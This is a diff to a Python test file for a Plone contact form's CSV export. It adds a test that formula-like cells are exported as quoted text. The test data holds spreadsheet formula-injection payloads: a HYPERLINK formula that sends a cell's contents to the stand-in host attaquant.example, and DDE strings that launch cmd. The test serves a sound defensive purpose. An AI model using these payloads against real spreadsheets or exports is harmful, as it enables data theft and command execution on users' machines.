@@ -9,6 +9,8 @@ from plone import api
 from plone.app.testing import SITE_OWNER_NAME
 from plone.app.testing import SITE_OWNER_PASSWORD
 
+import csv
+import io
 import logging
 import re
 import requests
@@ -54,6 +56,26 @@ def test_filter_search_and_csv(site, smtp):
     rows = export.content.decode("utf-8-sig").splitlines()
     assert len(rows) == 3
     assert "Horaires de la déchetterie" in export.content.decode("utf-8-sig")
+
+
+def test_csv_cells_that_look_like_formulas_stay_text(site, smtp):
+    """A spreadsheet runs a cell starting with = + - @ : the export shows it as text."""
+    form = site["demarches"]["nous-contacter"]
+    typed = {
+        "name": '=HYPERLINK("http://attaquant.example/?"&A1,"Voir")',
+        "subject": "@SUM(1+1)*cmd|' /C calc'!A0",
+        "message": "-2+3+cmd|' /C calc'!A0",
+    }
+    submit(form.absolute_url(), **typed)
+    submit(form.absolute_url(), name="+33 6 12 34 56 78", subject="Horaires", message="ok")
+    export = requests.get(f"{form.absolute_url()}/@@demandes.csv", auth=AUTH, timeout=30)
+    header, *rows = csv.reader(io.StringIO(export.content.decode("utf-8-sig")), delimiter=";")
+    cells = {value for row in rows for value in row}
+    for value in typed.values():
+        assert f"'{value}" in cells
+    assert "'+33 6 12 34 56 78" in cells
+    assert "Horaires" in cells and "ok" in cells
+    assert not [value for value in cells if value[:1] in ("=", "+", "-", "@")]
 
 
 def test_status_change_is_recorded_and_sends_a_pending_receipt(site, smtp):
